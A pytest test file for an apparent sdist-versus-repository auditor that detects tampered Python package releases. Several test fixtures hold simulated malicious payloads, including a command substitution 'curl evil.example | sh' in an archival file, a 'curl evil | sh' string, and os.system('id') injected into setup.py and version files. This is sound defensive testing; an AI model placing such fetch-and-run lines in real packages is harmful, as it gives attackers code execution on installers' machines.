"""The sdist against its repository at the release's tag (auditor/sourcerepo): a local git repository made by
the test, its URL pointed at with git's own url.<base>.insteadOf (GIT_CONFIG_GLOBAL), the sdist a directory
as an extracted sdist is. Honest additions are named rules; a tampered sdist differs, class code; no
repository, no tag, an unreachable repository are `unavailable` with the reason."""

from __future__ import annotations

import json
import os
import py_compile
import shutil
import subprocess
from pathlib import Path

import pytest

from auditor import sourcerepo

URL = "https://github.com/example/demo"
# under CI=true a missing git fails these tests rather than skipping them (setup.sh installs it)
pytestmark = pytest.mark.skipif(shutil.which("git") is None and os.environ.get("CI") != "true", reason="git is not installed")


def git(cwd: Path, *args: str) -> str:
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@e", GIT_COMMITTER_NAME="t",
               GIT_COMMITTER_EMAIL="t@e", GIT_CONFIG_GLOBAL=os.environ.get("GIT_CONFIG_GLOBAL", "/dev/null"))
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def repo(tmp_path, monkeypatch):
    """A repository tagged 1.0 (annotated), reachable as URL through insteadOf."""
    r = tmp_path / "upstream"
    (r / "demo").mkdir(parents=True)
    (r / "demo" / "__init__.py").write_text("def hello():\n    return 'hello'\n")
    (r / "demo" / "util.py").write_text("X = 1\n")
    (r / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    (r / "setup.cfg").write_text("[metadata]\nname = demo\n")
    (r / ".git_archival.txt").write_text("node: $Format:%H$\nref-names: $Format:%D$\n")
    (r / "certs").mkdir()
    (r / "certs" / "real.pem").write_text("CERT\n")
    os.symlink("real.pem", r / "certs" / "link.pem")
    (r / "tests").mkdir()
    (r / "tests" / "test_demo.py").write_text("def test(): pass\n")
    return tag_and_serve(r, tmp_path, monkeypatch)


def tag_and_serve(r: Path, tmp_path: Path, monkeypatch) -> Path:
    """Commit the tree as the release tagged v1.0 (annotated), reachable as URL through insteadOf."""
    git(r, "init", "-q")
    git(r, "add", "-A")
    git(r, "commit", "-q", "-m", "release")
    git(r, "tag", "-a", "v1.0", "-m", "1.0")
    config = tmp_path / "gitconfig"
    config.write_text(f'[url "file://{r}"]\n\tinsteadOf = {URL}\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    return r


def sdist_of(repo: Path, dest: Path, url: str = URL) -> Path:
    """The sdist an honest publisher makes from the tag: the tree (links as files, tests left out), plus what
    the sdist step adds."""
    src = dest / "demo-1.0"
    shutil.copytree(repo, src, symlinks=False, ignore=shutil.ignore_patterns(".git", "tests"))
    commit = git(repo, "rev-parse", "v1.0^{commit}").strip()
    (src / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nProject-URL: Source, {url}\n")
    (src / "demo.egg-info").mkdir()
    (src / "demo.egg-info" / "SOURCES.txt").write_text("demo/__init__.py\n")
    (src / "setup.cfg").write_text("[metadata]\nname = demo\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n")
    (src / ".git_archival.txt").write_text(f"node: {commit}\nref-names: HEAD -> main, tag: v1.0\n")
    (src / "demo" / "_version.py").write_text("__version__ = version = '1.0'\n")
    py_compile.compile(str(src / "demo" / "util.py"), cfile=str(src / "demo" / "__pycache__" / "util.cpython-311.pyc"),
                       doraise=True)
    return src


def test_an_honest_sdist_is_its_tag_plus_named_additions(repo, tmp_path):
    result = sourcerepo.check(sdist_of(repo, tmp_path / "s"), "demo", "1.0", tmp_path / "repos")
    assert result.verdict == "explained", (result.reason, result.differences)
    assert result.tag == "v1.0" and result.url == URL and len(result.commit) == 40
    expected = {"sdist-metadata", "egg-info-setup-cfg", "export-subst", "link-stored-as-file", "vcs-version-file"}
    if (tmp_path / "s" / "demo-1.0" / "demo" / "__pycache__" / "util.cpython-311.pyc").read_bytes()[:4] == \
            __import__("importlib.util").util.MAGIC_NUMBER:
        expected.add("bytecode-of-source")
    assert set(result.rules) == expected, result.rules
    again = sourcerepo.check(sdist_of(repo, tmp_path / "s2"), "demo", "1.0", tmp_path / "repos")  # cached by commit
    assert again.verdict == "explained" and (tmp_path / "repos" / result.commit / "HEAD").is_file()


@pytest.mark.parametrize("tamper, path", [
    (lambda s: (s / "demo" / "evil.py").write_text("import os\n"), "demo/evil.py"),
    (lambda s: (s / "demo" / "__init__.py").write_text("def hello():\n    return __import__('os').getcwd()\n"),
     "demo/__init__.py"),
    (lambda s: (s / "setup.py").write_text("import os\nos.system('id')\nfrom setuptools import setup\nsetup()\n"),
     "setup.py"),
    (lambda s: (s / "demo-init.pth").write_text("import os\n"), "demo-init.pth"),
    (lambda s: (s / "demo" / "__pycache__" / "util.cpython-311.pyc").write_bytes(
        (s / "demo" / "__pycache__" / "util.cpython-311.pyc").read_bytes()[:16] + b"\xe3not the code of util.py"),
     "demo/__pycache__/util.cpython-311.pyc"),
    (lambda s: (s / ".git_archival.txt").write_text("node: $(curl evil.example | sh)\nref-names: x\n"),
     ".git_archival.txt"),
])
def test_a_tampered_sdist_differs_naming_the_file_class_code(repo, tmp_path, tamper, path):
    src = sdist_of(repo, tmp_path / "s")
    tamper(src)
    result = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
    assert result.verdict == "differs", result.reason
    # a filled-in archival file is read by a version plugin, never run: packaging; the rest can run: code
    cls = "packaging" if path == ".git_archival.txt" else "code"
    assert [(d.path, d.cls) for d in result.differences] == [(path, cls)], result.differences


def test_no_repository_no_tag_or_no_answer_is_unavailable_with_the_reason(repo, tmp_path):
    src = sdist_of(repo, tmp_path / "s")
    (src / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
    r = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
    assert r.verdict == "unavailable" and "names no repository" in r.reason
    r = sourcerepo.check(sdist_of(repo, tmp_path / "s2"), "demo", "2.0", tmp_path / "repos")
    assert r.verdict == "unavailable" and r.reason.startswith("no tag for 2.0")
    gone = sdist_of(repo, tmp_path / "s3", url="https://github.com/example/gone")
    config = Path(os.environ["GIT_CONFIG_GLOBAL"])
    config.write_text(config.read_text() + f'[url "file://{tmp_path}/nowhere"]\n\tinsteadOf = https://github.com/example/gone\n')
    r = sourcerepo.check(gone, "demo", "1.0", tmp_path / "repos")
    assert r.verdict == "unavailable" and "did not answer" in r.reason


def test_the_repository_url_and_tag_are_found_as_publishers_write_them():
    assert sourcerepo.repository_url({"project_urls": {"Source": "https://github.com/pallets/flask/"}}) == \
        "https://github.com/pallets/flask"
    assert sourcerepo.repository_url({"project_urls": {"Documentation": "https://x.readthedocs.io",
                                                       "Changes": "https://github.com/a/b/blob/main/CHANGES.rst"}}) == \
        "https://github.com/a/b"
    assert sourcerepo.repository_url({"home_page": "https://github.com/yaml/pyyaml"}) == "https://github.com/yaml/pyyaml"
    assert sourcerepo.repository_url({"home_page": "https://example.org"}) is None
    tags = {"v1.2.3": "a", "1.2.4": "b", "demo-1.2.5": "c"}
    assert [sourcerepo.tag_for(tags, "demo", v) for v in ("1.2.3", "1.2.4", "1.2.5", "9")] == ["v1.2.3", "1.2.4",
                                                                                              "demo-1.2.5", None]
    # certifi 2025.6.15 is tagged 2025.06.15: the same version written another way; never a different one
    cal = {"2025.06.15": "a", "2025.07.09": "b", "2025.6.1": "c"}
    assert [sourcerepo.tag_for(cal, "certifi", v) for v in ("2025.6.15", "2025.7.9", "2025.6.2")] == [
        "2025.06.15", "2025.07.09", None]


URLLIB3_VERSION_PY = b'''# file generated by setuptools-scm
# don't change, don't track in version control

__all__ = ["__version__", "__version_tuple__", "version", "version_tuple"]

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Tuple
    from typing import Union

    VERSION_TUPLE = Tuple[Union[int, str], ...]
else:
    VERSION_TUPLE = object

version: str
__version__: str
__version_tuple__: VERSION_TUPLE
version_tuple: VERSION_TUPLE

__version__ = version = '2.5.0'
__version_tuple__ = version_tuple = (2, 5, 0)
'''


def test_a_vcs_plugins_version_file_states_only_the_version():
    """urllib3 2.5.0's src/urllib3/_version.py (setuptools-scm's template): accepted for 2.5.0 only; a call, an
    import of anything but typing, or another version is not such a file."""
    assert sourcerepo.rules.vcs_template(URLLIB3_VERSION_PY, "2.5.0")
    assert not sourcerepo.rules.vcs_template(URLLIB3_VERSION_PY, "2.5.1")
    assert not sourcerepo.rules.vcs_template(URLLIB3_VERSION_PY + b"__import__('os').system('id')\n", "2.5.0")
    assert not sourcerepo.rules.vcs_template(URLLIB3_VERSION_PY.replace(b"from typing import Union", b"import os"), "2.5.0")
    assert not sourcerepo.rules.vcs_template(URLLIB3_VERSION_PY.replace(b"VERSION_TUPLE = object", b"VERSION_TUPLE = f()"),
                                       "2.5.0")


def test_a_setup_cfg_of_only_egg_infos_section_is_the_sdist_steps(repo, tmp_path):
    """markupsafe 3.0.2: the repository has no setup.cfg; the sdist's holds only [egg_info]."""
    src = sdist_of(repo, tmp_path / "s")
    subprocess.run(["git", "rm", "-q", "setup.cfg"], cwd=repo, check=True)
    git(repo, "commit", "-q", "-m", "no setup.cfg")
    git(repo, "tag", "-a", "v1.1", "-m", "1.1")
    (src / "setup.cfg").write_text("[egg_info]\ntag_build = \ntag_date = 0\n\n")
    (src / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: demo\nVersion: 1.1\nProject-URL: Source, {URL}\n")
    (src / "demo" / "_version.py").write_text("__version__ = version = '1.1'\n")
    (src / ".git_archival.txt").write_text("node: $Format:%H$\nref-names: $Format:%D$\n")
    result = sourcerepo.check(src, "demo", "1.1", tmp_path / "repos")
    assert result.verdict == "explained" and "egg-info-setup-cfg" in result.rules, (result.reason, result.differences)
    (src / "setup.cfg").write_text("[egg_info]\ntag_build = \n\n[options]\nsetup_requires = evil\n")
    assert sourcerepo.check(src, "demo", "1.1", tmp_path / "repos").verdict == "differs"


def test_check_source_repo_end_to_end(tmp_path, index, auditor, container_backend):
    """`auditor check --source-repo`: each release's results.json carries source_repo; an honest flit release is
    explained (PKG-INFO), and the same release whose sdist gained a module its tag lacks is `differs`, class
    code, exit 1, although its wheel is what that sdist builds into; the rest of the run goes on."""
    from datetime import datetime, timezone

    from tests.conftest import PYPI
    from tests.fixtureindex import build_project, lock_line, make_project

    now = datetime.now(timezone.utc).replace(microsecond=0)
    lines, config = [], tmp_path / "gitconfig"
    for name, extra in (("fixrepo-ok", None), ("fixrepo-evil", {"fixrepo_evil/added.py": "import os\n"})):
        proj = make_project(tmp_path / "src" / name, name, "1.0")
        url = f"https://github.com/example/{name}"
        with open(proj / "pyproject.toml", "a") as f:
            f.write(f'\n[project.urls]\nSource = "{url}"\n')
        git(proj, "init", "-q")
        git(proj, "add", "-A")
        git(proj, "commit", "-q", "-m", "1.0")
        git(proj, "tag", "v1.0")
        with open(config, "a") as f:
            f.write(f'[url "file://{proj}"]\n\tinsteadOf = {url}\n')
        for rel, text in (extra or {}).items():  # added to the working tree after the tag: only the sdist has it
            (proj / rel).write_text(text)
        sdist, wheel = build_project(proj, tmp_path / "dist" / name)
        lines.append(lock_line(name, "1.0", index.add(name, sdist, now), index.add(name, wheel, now)))
    lock = tmp_path / "requirements.txt"
    lock.write_text("".join(lines))
    r = auditor("check", str(lock), "--index-url", index.url, "--build-index-url", PYPI, "--backend", container_backend,
                "--source-repo", env={"GIT_CONFIG_GLOBAL": str(config)})
    ok, evil = r.package("fixrepo-ok"), r.package("fixrepo-evil")
    assert ok["source_repo"]["verdict"] in ("matches", "explained") and ok["source_repo"]["tag"] == "v1.0", ok["source_repo"]
    assert ok["verdict"] == "identical", ok["reason"]
    assert evil["source_repo"]["verdict"] == "differs" and evil["verdict"] == "differs", evil["source_repo"]
    assert [(d["path"], d["cls"]) for d in evil["source_repo"]["differences"]] == [("fixrepo_evil/added.py", "code")]
    assert evil["reason"].startswith("sdist against the repository:") and evil["wheels"][0]["verdict"] == "identical"
    assert r.code == 1
    page = (r.report_dir / "index.html").read_text()  # the chain tag -> sdist -> wheels, and the file that breaks it
    assert "<strong>Chain:</strong>" in page and 'class="repo-difference"><td class="mono">fixrepo_evil/added.py' in page
    sarif = auditor("report", str(r.report_dir / "results.json"), "--report-dir", str(r.report_dir), "--format", "sarif")
    assert sarif.code == 0
    results = json.loads((r.report_dir / "results.sarif").read_text())["runs"][0]["results"]
    assert any(x["ruleId"] == "differs-code" and "fixrepo_evil/added.py" in x["message"]["text"] for x in results)


def test_a_project_in_a_subdirectory_of_its_repository(tmp_path, monkeypatch):
    """hatchling 1.27.0: its sdist is hatch's backend/ directory, plus the repository's root .gitignore."""
    r = tmp_path / "mono"
    (r / "backend" / "src" / "lib").mkdir(parents=True)
    (r / "backend" / "pyproject.toml").write_text('[project]\nname = "lib"\n')
    (r / "backend" / "src" / "lib" / "__init__.py").write_text("X = 1\n")
    (r / "pyproject.toml").write_text('[project]\nname = "app"\n')
    (r / ".gitignore").write_text("*.pyc\n")
    git(r, "init", "-q")
    git(r, "add", "-A")
    git(r, "commit", "-q", "-m", "1.0")
    git(r, "tag", "lib-v1.0")
    config = tmp_path / "gitconfig"
    config.write_text(f'[url "file://{r}"]\n\tinsteadOf = https://github.com/example/mono\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    src = tmp_path / "s" / "lib-1.0"
    shutil.copytree(r / "backend", src)
    shutil.copy(r / ".gitignore", src / ".gitignore")
    (src / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n"
                                  "Project-URL: Source, https://github.com/example/mono\n")
    result = sourcerepo.check(src, "lib", "1.0", tmp_path / "repos")
    assert result.verdict == "explained" and result.subdirectory == "backend" and result.tag == "lib-v1.0", result
    (src / "src" / "lib" / "__init__.py").write_text("X = 2\n")
    assert sourcerepo.check(src, "lib", "1.0", tmp_path / "repos").verdict == "differs"


def mo_file(messages: dict[bytes, bytes]) -> bytes:
    """A GNU .mo as msgfmt writes it (little-endian, keys sorted, no hash table)."""
    import struct
    keys = sorted(messages)
    n = len(keys)
    kstart = 28 + 16 * n
    ids, strs, koffs, voffs = b"", b"", [], []
    for k in keys:
        koffs.append((len(k), kstart + len(ids)))
        ids += k + b"\0"
    vstart = kstart + len(ids)
    for k in keys:
        voffs.append((len(messages[k]), vstart + len(strs)))
        strs += messages[k] + b"\0"
    table = b"".join(struct.pack("<2I", *o) for o in koffs) + b"".join(struct.pack("<2I", *o) for o in voffs)
    return struct.pack("<7I", 0x950412DE, 0, n, 28, 28 + 8 * n, 0, 0) + table + ids + strs


PO = '''msgid ""
msgstr ""
"Content-Type: text/plain; charset=UTF-8\\n"

msgid "hello"
msgstr "bonjour"

#, fuzzy
msgid "maybe"
msgstr "peut-etre"

msgctxt "menu"
msgid "file"
msgid_plural "files"
msgstr[0] "fichier"
msgstr[1] "fichiers"

msgid "untranslated"
msgstr ""
'''
CATALOG = {b"": b"Content-Type: text/plain; charset=UTF-8\n", b"hello": b"bonjour",
           b"menu\x04file\x00files": b"fichier\x00fichiers"}
CYTHON_C = b'''/* Generated by Cython 3.0.11 */

/* BEGIN: Cython Metadata
{
    "distutils": {
        "name": "demo.fast",
        "sources": [
            "demo/fast.pyx"
        ]
    },
    "module_name": "demo.fast"
}
END: Cython Metadata */

int fast(void) { return 1; }
'''


@pytest.fixture
def generated(repo, tmp_path):
    """The repository with a submodule (vendor/lib, its own repository reached through insteadOf at the commit
    the tree records), a .pyx and a .po; tagged v1.1. Returns the honest sdist."""
    lib = tmp_path / "lib"
    lib.mkdir()
    (lib / "lib.c").write_text("int lib(void) { return 2; }\n")
    (lib / "configure.ac").write_text("AC_INIT([lib], [1.0])\n")
    git(lib, "init", "-q")
    git(lib, "add", "-A")
    git(lib, "commit", "-q", "-m", "lib")
    recorded = git(lib, "rev-parse", "HEAD").strip()
    (lib / "lib.c").write_text("int lib(void) { return 3; }\n")  # a later commit the tree does not record
    git(lib, "commit", "-q", "-am", "later")
    config = Path(os.environ["GIT_CONFIG_GLOBAL"])
    config.write_text(config.read_text() + f'[url "file://{lib}"]\n\tinsteadOf = https://github.com/example/lib\n')
    (repo / ".gitmodules").write_text('[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://github.com/example/lib.git\n')
    (repo / "demo" / "fast.pyx").write_text("def fast():\n    return 1\n")
    (repo / "demo" / "locale" / "fr").mkdir(parents=True)
    (repo / "demo" / "locale" / "fr" / "demo.po").write_text(PO)
    git(repo, "add", "-A")
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{recorded},vendor/lib")
    git(repo, "commit", "-q", "-m", "1.1")
    git(repo, "tag", "v1.1")
    src = sdist_of(repo, tmp_path / "s")
    (src / "vendor" / "lib").mkdir(parents=True)
    (src / "vendor" / "lib" / "lib.c").write_text("int lib(void) { return 2; }\n")
    (src / "vendor" / "lib" / "configure.ac").write_text("AC_INIT([lib], [1.0])\n")
    (src / "vendor" / "lib" / ".git").write_text("gitdir: ../../.git/modules/vendor/lib\n")
    (src / "demo" / "fast.c").write_bytes(CYTHON_C)
    (src / "demo" / "locale" / "fr" / "demo.mo").write_bytes(mo_file(CATALOG))
    (src / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: demo\nVersion: 1.1\nProject-URL: Source, {URL}\n")
    (src / "demo" / "_version.py").write_text("__version__ = version = '1.1'\n")
    commit = git(repo, "rev-parse", "v1.1^{commit}").strip()
    (src / ".git_archival.txt").write_text(f"node: {commit}\nref-names: HEAD -> main, tag: v1.1\n")
    return src


def test_a_submodule_generated_c_and_a_compiled_catalog_are_named(generated, tmp_path):
    """uvloop 0.21.0's shape: vendor/libuv is a submodule, uvloop/loop.c is Cython's; a .mo is msgfmt's."""
    from auditor.sourcerepo import rules
    assert rules.po_catalog(PO) == CATALOG and rules.mo_catalog(mo_file(CATALOG)) == CATALOG
    r = sourcerepo.check(generated, "demo", "1.1", tmp_path / "repos")
    assert r.verdict == "explained", (r.reason, r.differences)
    assert {"submodule", "submodule-gitdir-file", "cython-generated-source", "compiled-catalog"} <= set(r.rules)
    assert r.not_regenerated == ["demo/fast.c"] and "not regenerated here: demo/fast.c" in r.reason


@pytest.mark.parametrize("tamper, path, cls", [
    (lambda s: (s / "vendor" / "lib" / "lib.c").write_text("int lib(void) { return 3; }\n"), "vendor/lib/lib.c", "code"),
    (lambda s: (s / "vendor" / "lib" / "extra.c").write_text("int x;\n"), "vendor/lib/extra.c", "code"),
    (lambda s: (s / "vendor" / "lib" / ".git").write_text("gitdir: /tmp/elsewhere\n"), "vendor/lib/.git", "packaging"),
    (lambda s: (s / "demo" / "locale" / "fr" / "demo.mo").write_bytes(mo_file({**CATALOG, b"hello": b"salut"})),
     "demo/locale/fr/demo.mo", "packaging"),
    (lambda s: (s / "demo" / "other.c").write_bytes(CYTHON_C.replace(b"demo/fast.pyx", b"demo/other.pyx")),
     "demo/other.c", "code"),
    # uvloop 0.21.0's vendor/libuv/configure, aclocal.m4, m4/*.m4: autoreconf's output, never verified (xz)
    (lambda s: (s / "vendor" / "lib" / "configure").write_text("#!/bin/sh\n"), "vendor/lib/configure", "code"),
    (lambda s: (s / "vendor" / "lib" / "aclocal.m4").write_text("dnl\n"), "vendor/lib/aclocal.m4", "code"),
])
def test_a_changed_submodule_file_catalog_or_unsourced_c_differs(generated, tmp_path, tamper, path, cls):
    tamper(generated)
    r = sourcerepo.check(generated, "demo", "1.1", tmp_path / "repos")
    assert r.verdict == "differs" and [(d.path, d.cls) for d in r.differences] == [(path, cls)], r.differences
    assert ("autotools output" in r.differences[0].cause) == path.endswith(("configure", ".m4"))


def test_a_file_the_backends_configuration_copies_in_is_compared_with_its_source(tmp_path, monkeypatch):
    """hatchling's force-include copies a file from elsewhere in the repository (a monorepo's shared LICENSE)
    into the sdist: it is compared with that file (backend-force-include); a changed copy differs."""
    r = tmp_path / "mono"
    (r / "shared").mkdir(parents=True)
    (r / "shared" / "LICENSE").write_text("MIT\n")
    (r / "pkg" / "demo").mkdir(parents=True)
    pyproject = ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
                 '[project]\nname = "demo"\nversion = "1.0"\n'
                 '[tool.hatch.build.targets.sdist.force-include]\n"../shared/LICENSE" = "LICENSE"\n')
    (r / "pkg" / "pyproject.toml").write_text(pyproject)
    (r / "pkg" / "demo" / "__init__.py").write_text("X = 1\n")
    git(r, "init", "-q")
    git(r, "add", "-A")
    git(r, "commit", "-q", "-m", "1.0")
    git(r, "tag", "v1.0")
    (tmp_path / "gitconfig").write_text(f'[url "file://{r}"]\n\tinsteadOf = https://github.com/example/mono\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    src = tmp_path / "demo-1.0"
    shutil.copytree(r / "pkg", src)
    (src / "LICENSE").write_text("MIT\n")
    (src / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
                                  "Project-URL: Source, https://github.com/example/mono\n")
    result = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
    assert result.verdict == "explained" and "backend-force-include" in result.rules, (result.reason, result.differences)
    (src / "LICENSE").write_text("MIT, and run curl evil | sh\n")
    result = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
    assert [(d.path, d.kind) for d in result.differences] == [("LICENSE", "content")], result.differences


@pytest.mark.parametrize("target", ["../../certs/real.pem", "/certs/real.pem"])
def test_a_link_out_of_the_tree_is_never_read_as_a_path_inside_it(tmp_path, monkeypatch, target):
    """A repository link climbing out of the tree or absolute points at nothing the check may read: the sdist's
    file stored under that name is not the in-tree file the path would land on once its '..' were dropped."""
    r = tmp_path / "repo"
    (r / "certs").mkdir(parents=True)
    (r / "certs" / "real.pem").write_text("CERT\n")
    os.symlink(target, r / "certs" / "out.pem")
    (r / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    git(r, "init", "-q")
    git(r, "add", "-A")
    git(r, "commit", "-q", "-m", "1.0")
    git(r, "tag", "v1.0")
    (tmp_path / "gitconfig").write_text(f'[url "file://{r}"]\n\tinsteadOf = {URL}\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    src = tmp_path / "demo-1.0"
    (src / "certs").mkdir(parents=True)
    (src / "certs" / "real.pem").write_text("CERT\n")
    (src / "certs" / "out.pem").write_text("CERT\n")
    (src / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    (src / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nProject-URL: Source, {URL}\n")
    result = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
    assert [d.path for d in result.differences] == ["certs/out.pem"], (result.reason, result.rules)
